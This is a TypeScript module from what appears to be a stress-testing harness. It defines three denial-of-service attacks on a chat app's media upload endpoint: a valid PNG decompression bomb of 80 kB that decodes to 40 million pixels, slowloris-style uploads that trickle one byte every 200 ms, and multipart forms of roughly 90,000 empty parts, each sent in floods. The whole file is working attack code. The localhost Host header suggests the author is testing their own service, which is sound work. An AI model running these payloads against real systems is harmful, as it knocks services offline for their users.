import { setTimeout as delay } from 'node:timers/promises'
import { crc32, deflateSync } from 'node:zlib'
import type { Attack, Target } from '../attack.ts'
import { flood, loops, openUnread } from '../send.ts'

/**
 * Uploads: a picture that is cheap to send and expensive to decode, very slow bodies, and forms of tiny
 * parts.
 */

const HEIGHT = 40_000_000

/** A complete, valid PNG of one grey column: 80 kB that decode to 40,000,000 pixels. */
function tallPicture(): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
    const ends = Buffer.alloc(8)
    ends.writeUInt32BE(data.length, 0)
    ends.writeUInt32BE(crc32(body), 4)
    return Buffer.concat([ends.subarray(0, 4), body, ends.subarray(4)])
  }
  const header = Buffer.alloc(13)
  header.writeUInt32BE(1, 0)
  header.writeUInt32BE(HEIGHT, 4)
  header[8] = 8
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', header),
    // A filter byte and a pixel for each row.
    chunk('IDAT', deflateSync(Buffer.alloc(2 * HEIGHT))),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

let made = 0
const placeFor = (target: Target, number: number) => {
  made += 1
  const pair = target.pairs[number % target.pairs.length]
  return {
    path: `/storage/v1/object/chat-media/${pair?.chatId}/${Date.now()}${made}.png`,
    token: pair?.seeker.token ?? '',
  }
}

const tallPictures: Attack = {
  name: 'pictures of 40,000,000 rows',
  run: (target) => {
    const body = tallPicture()
    const headers = { 'content-type': 'image/png' }
    return flood(target, 4, () => ({ method: 'POST', ...placeFor(target, 0), body, headers }))
  },
}

const ACCOUNTS = 10
const EACH = 4
const TRICKLE_MS = 200
const DECLARED = 5_000_000

const trickledUploads: Attack = {
  name: 'trickled uploads',
  run: (target) =>
    loops(target, ACCOUNTS * EACH, async (number) => {
      const { path, token } = placeFor(target, number % ACCOUNTS)
      const socket = await openUnread(
        target,
        `POST ${path} HTTP/1.1\r\nHost: localhost\r\napikey: ${target.key}\r\nAuthorization: Bearer ${token}\r\n` +
          `Content-Type: image/png\r\nContent-Length: ${DECLARED}\r\n\r\n`,
      )
      socket.resume()
      target.count(socket.destroyed ? 'none' : 'upload')
      while (!socket.destroyed && !target.isOver()) {
        socket.write('x')
        await delay(TRICKLE_MS)
      }
      socket.destroy()
      await delay(TRICKLE_MS)
    }),
}

const PART = '--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n'
const FORM_BYTES = 5_000_000

const tinyParts: Attack = {
  name: 'forms of 90,000 parts',
  run: (target) => {
    const body = `${PART.repeat(FORM_BYTES / PART.length)}--b--\r\n`
    const headers = { 'content-type': 'multipart/form-data; boundary=b' }
    return flood(target, 4, () => ({ method: 'POST', ...placeFor(target, made), body, headers }))
  },
}

export const uploadAttacks = [tallPictures, trickledUploads, tinyParts]
